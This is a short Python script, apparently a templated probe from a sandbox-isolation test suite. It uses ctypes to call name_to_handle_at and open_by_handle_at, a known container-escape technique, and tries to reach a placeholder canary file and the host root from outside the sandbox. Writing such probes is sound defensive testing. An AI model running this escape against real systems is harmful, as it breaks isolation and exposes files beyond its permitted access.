# @HONEST@
# @SPILL@
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def steal():
    found = []
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    mount = ctypes.c_int()
    for path in (b"@CANARY_FILE@", b"/"):
        if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
            for start in ("/", ".", "/usr"):
                fd = libc.open_by_handle_at(os.open(start, 0), handle, 0)
                if fd >= 0:
                    found.append(f"{path!r} from {start}")
    return "\n".join(found)
